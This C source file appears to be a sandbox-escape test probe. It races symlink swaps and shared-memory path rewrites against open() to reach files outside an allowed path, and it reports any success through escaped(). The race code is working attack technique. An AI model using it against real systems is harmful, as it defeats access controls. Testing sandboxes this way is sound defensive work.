/* Swaps a path, and a link, while they are decided. Arguments: the file to read, a file to
 * write. */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>

static char *path;
static const char *wanted;
static volatile int over;

static void *swap_bytes(void *none) {
    for (; !over;) {
        strcpy(path, "granted");
        strcpy(path, wanted);
    }
    return none;
}

static void *swap_links(void *none) {
    for (; !over;) {
        symlink("granted", "new");
        rename("new", "way");
        symlink(wanted, "new");
        rename("new", "way");
    }
    return none;
}

static void once(const char *name, int flags) {
    char data[64] = "";
    int fd = open(name, flags, 0600);
    if (fd < 0) return;
    if (flags & O_ACCMODE) {
        struct stat st, granted;
        fstat(fd, &st);
        stat("granted", &granted);
        if (st.st_ino != granted.st_ino && access(wanted, F_OK) == 0) escaped("wrote");
    } else if (read(fd, data, sizeof data) > 0 && strcmp(data, "granted\n")) {
        escaped(data);
    }
    close(fd);
}

static void race(void *(*swapper)(void *), const char *name, int flags) {
    pthread_t thread;
    over = 0;
    pthread_create(&thread, NULL, swapper, NULL);
    for (double end = now() + 0.4; now() < end;) once(name, flags);
    over = 1;
    pthread_join(thread, NULL);
}

int main(int argc, char **argv) {
    path = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    int fd = open("granted", O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (write(fd, "granted\n", 8) != 8) return 3;
    unlink("way");
    for (int way = 0; way < 2; way++) {
        wanted = argv[1];
        race(way ? swap_links : swap_bytes, way ? "way" : path, O_RDONLY);
        wanted = argv[2];
        race(way ? swap_links : swap_bytes, way ? "way" : path, O_WRONLY);
    }
    return argc != 3;
}
